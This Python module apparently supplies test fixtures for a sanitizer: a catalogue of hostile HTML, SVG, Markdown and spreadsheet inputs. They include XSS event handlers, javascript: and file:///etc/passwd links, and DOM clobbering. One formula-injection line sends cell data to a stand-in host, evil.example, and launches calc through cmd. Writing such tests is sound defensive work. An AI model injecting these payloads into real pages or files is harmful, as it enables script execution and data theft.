"""Hostile texts: each sets `window.fired`, loads from elsewhere or navigates away."""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

EVIL = "https://evil.example"
IMAGE = '<img src=x onerror="window.fired=1">'
PAYLOADS: Mapping[str, str] = MappingProxyType({
    "image": IMAGE,
    "script": "<script>window.fired=1</script><SCRIPT/x>window.fired=1</SCRIPT >",
    "way out": f"\"'></textarea></title></style></script></p></div><script>window.fired=1</script>{IMAGE}",
    "svg": "<svg onload=window.fired=1><script>window.fired=1</script>"
    "<animate onbegin=window.fired=1 attributeName=x dur=1s><use href='data:image/svg+xml,<svg/>'></svg>",
    "frame": "<iframe srcdoc='<script>parent.fired=1</script>'></iframe>"
    "<iframe src=javascript:parent.fired=1>",
    "style": f"<style>@import '{EVIL}/a.css'; *{{background:url({EVIL}/b)}}</style>"
    f"<p style='background:url({EVIL}/c)' class=sidebar>styled</p>",
    "link": f"<link rel=stylesheet href={EVIL}/a.css><link rel=prefetch href={EVIL}/b>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "base": f"<base href={EVIL}/><a href=next>next</a>",
    "form": f"<form action={EVIL}/ id=content><input name=attributes autofocus onfocus=window.fired=1>"
    "<button formaction=javascript:window.fired=1>go</button></form>",
    "math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=window.fired=1&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.fired=1>">',
    "template": "${window.fired=1} <${window}> <//> {{constructor.constructor('window.fired=1')()}} <%= 1 %>",
    "media": "<video><source onerror=window.fired=1></video><audio src onerror=window.fired=1>"
    "<object data=javascript:window.fired=1></object><embed src=javascript:window.fired=1>",
    "details": "<details open ontoggle=window.fired=1><summary>more</summary></details>"
    "<dialog open onclose=window.fired=1>x</dialog>",
    "clobbering": "<a id=content name=body href=#/keys>x</a><img name=getElementById><p id=console></p>",
    "comment": f"<!--> {IMAGE} --> <!--[if IE]>{IMAGE}<![endif]--> <![CDATA[{IMAGE}]]> <!-- {IMAGE}",
    "dangling": f"<a href='{EVIL}/?<b>bold<img src='{EVIL}/?",
    "entities": "&lt;img src=x onerror=window.fired=1&gt; &#60;script&#62;window.fired=1&#60;/script&#62;",
    "odd characters": "<scr\u0000ipt>window.fired=1</script> <img/\u000csrc=x\u000conerror=window.fired=1>",
    "bidirectional": f"\u202egnp.txet\u202c \u2066invoice\u2069 \u200b{IMAGE}",
    "links": "[a](javascript:window.fired=1) [b](java&#x73;cript:window.fired=1) [c](vbscript:fired=1) "
    "[d](data:text/html,<script>opener.fired=1</script>) [e](JaVaScRiPt&colon;window.fired=1) "
    "[f](<java\tscript:window.fired=1>) [g](file:///etc/passwd) [h](blob:x) [i](\\x01javascript:fired=1)",
    "pictures": f"![a]({EVIL}/p.png) ![b](javascript:window.fired=1) ![c](data:image/svg+xml,<svg/>) "
    f'![d"onerror=window.fired=1]({EVIL}/q.png"onerror=window.fired=1)',
    "autolinks": f'<javascript:window.fired=1> <{EVIL}/?"onmouseover=window.fired=1> {EVIL}/"onclick=fired=1',
    "titles": f'[t]({EVIL}/ "\\" onmouseover=window.fired=1 x=\\"") [u]({EVIL}/"onclick="window.fired=1)',
    "references": f"[x] ![y]\n\n[x]: javascript:window.fired=1 '\">{IMAGE}'\n[y]: {EVIL}/r.png",
    "fences": f'```"><img src=x onerror=window.fired=1>\n</code></pre>{IMAGE}\n```\n`{IMAGE}`',
    "tables": f"| a | {IMAGE} |\n|---|---|\n| {IMAGE} | [x](javascript:window.fired=1) |",
    "headings": f"# {IMAGE}\n\n{IMAGE}\n===\n\n- [x] <input type=image src={EVIL}/i>\n1. {IMAGE}",
    "formula": f'=HYPERLINK("{EVIL}/?"&A1,"open") +cmd|\'/C calc\'!A0 @SUM(1)',
    "deep quotes": "> " * 300 + IMAGE,
    "deep lists": "\n".join("  " * depth + "- " + IMAGE for depth in range(60)),
    "deep marks": "[" * 300 + "*_" * 300 + "<div>" * 300 + IMAGE,
})  # fmt: skip
# The texts that are valid names: one line of at most 128 characters.
NAMES = {
    kind: text
    for kind, text in PAYLOADS.items()
    if len(text) <= 128 and text.isprintable() and not kind.startswith("deep")
}
